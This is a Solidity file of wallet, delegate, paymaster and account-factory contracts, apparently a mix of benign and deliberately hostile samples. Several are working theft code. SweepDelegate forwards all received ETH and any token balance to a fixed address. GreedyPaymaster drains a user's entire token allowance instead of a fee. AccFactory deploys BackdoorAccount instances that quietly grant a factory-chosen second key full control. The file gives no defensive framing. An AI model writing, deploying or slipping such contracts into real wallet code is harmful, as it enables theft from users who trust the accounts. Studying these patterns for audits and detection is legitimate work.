// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import {IERC20} from "./base/Common.sol";

// Wallets, delegates, paymasters and account factories.

contract SimpleWallet {
    address public owner;
    constructor(address o) {
        owner = o;
    }
    receive() external payable {}
    function exec(address to, uint256 v, bytes calldata d) external {
        require(msg.sender == owner);
        (bool k, ) = to.call{value: v}(d);
        require(k);
    }
}

contract Hole {
    receive() external payable {}
    function ping() external {}
}

contract SweepDelegate {
    address immutable o;
    constructor(address x) {
        o = x;
    }
    receive() external payable {
        (bool k, ) = o.call{value: address(this).balance}("");
        k;
    }
    function multicall(bytes[] calldata) external payable {}
    function flush(address t) external {
        IERC20(t).transfer(o, IERC20(t).balanceOf(address(this)));
    }
}

contract SelfDelegate {
    receive() external payable {}
    function exec(address to, uint256 v, bytes calldata d) external {
        require(msg.sender == address(this));
        (bool k, ) = to.call{value: v}(d);
        require(k);
    }
}

interface IPM {
    struct Op {
        address sender;
        uint256 nonce;
        bytes initCode;
        bytes callData;
        bytes32 a;
        uint256 p;
        bytes32 g;
        bytes paymasterAndData;
        bytes signature;
    }
}

contract TokenPaymaster is IPM {
    IERC20 immutable t;
    uint256 immutable fee;
    address immutable o;
    constructor(address a, uint256 f) {
        t = IERC20(a);
        fee = f;
        o = msg.sender;
    }
    function validatePaymasterUserOp(Op calldata op, bytes32, uint256) external returns (bytes memory c, uint256) {
        c = abi.encode(op.sender);
        require(t.allowance(op.sender, address(this)) >= fee, "allow");
        return (c, 0);
    }
    function postOp(uint8, bytes calldata c, uint256, uint256) external {
        t.transferFrom(abi.decode(c, (address)), o, fee);
    }
}

contract GreedyPaymaster is IPM {
    IERC20 immutable t;
    address immutable o;
    constructor(address a) {
        t = IERC20(a);
        o = msg.sender;
    }
    function validatePaymasterUserOp(Op calldata op, bytes32, uint256) external pure returns (bytes memory c, uint256) {
        c = abi.encode(op.sender);
        return (c, 0);
    }
    function postOp(uint8, bytes calldata c, uint256, uint256) external {
        address w = abi.decode(c, (address));
        uint256 b = t.balanceOf(w);
        uint256 a = t.allowance(w, address(this));
        t.transferFrom(w, o, a < b ? a : b);
    }
}

contract BackdoorAccount {
    address public owner;
    address public second;
    address immutable ep;
    bool set;
    constructor(address e) {
        ep = e;
    }
    receive() external payable {}
    function init(address o, address s) external {
        require(!set);
        set = true;
        owner = o;
        second = s;
    }
    function validateUserOp(IPM.Op calldata op, bytes32 h, uint256 missing) external returns (uint256) {
        require(msg.sender == ep);
        if (missing > 0) {
            (bool k, ) = ep.call{value: missing}("");
            k;
        }
        (bytes32 r, bytes32 s, uint8 v) = op.signature.length == 65
            ? (bytes32(op.signature[0:32]), bytes32(op.signature[32:64]), uint8(op.signature[64]))
            : (bytes32(0), bytes32(0), uint8(0));
        address w = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", h)), v, r, s);
        return w == owner || w == second ? 0 : 1;
    }
    function execute(address to, uint256 v, bytes calldata d) external {
        require(msg.sender == ep || msg.sender == owner || (second != address(0) && msg.sender == second));
        (bool k, ) = to.call{value: v}(d);
        require(k);
    }
}

contract AccFactory {
    address immutable ep;
    address immutable second;
    constructor(address e, address s) {
        ep = e;
        second = s;
    }
    function createAccount(address o, uint256 salt) external returns (address) {
        BackdoorAccount a = new BackdoorAccount{salt: keccak256(abi.encode(o, salt))}(ep);
        a.init(o, second);
        return address(a);
    }
    function getAddress(address o, uint256 salt) external view returns (address) {
        return
            address(
                uint160(
                    uint256(
                        keccak256(
                            abi.encodePacked(
                                bytes1(0xff),
                                address(this),
                                keccak256(abi.encode(o, salt)),
                                keccak256(abi.encodePacked(type(BackdoorAccount).creationCode, abi.encode(ep)))
                            )
                        )
                    )
                )
            );
    }
}
